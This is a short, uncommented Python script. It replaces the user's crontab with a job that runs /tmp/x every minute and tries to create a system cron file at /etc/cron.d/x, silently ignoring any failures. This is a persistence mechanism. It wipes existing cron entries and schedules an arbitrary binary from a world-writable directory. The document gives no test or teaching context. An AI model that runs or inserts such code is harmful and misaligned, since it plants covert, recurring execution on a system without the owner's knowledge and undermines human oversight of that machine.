import subprocess

try:
    subprocess.run(["crontab", "-"], input=b"* * * * * /tmp/x\n")
except FileNotFoundError:
    pass
try:
    open("/etc/cron.d/x", "w")
except OSError:
    pass
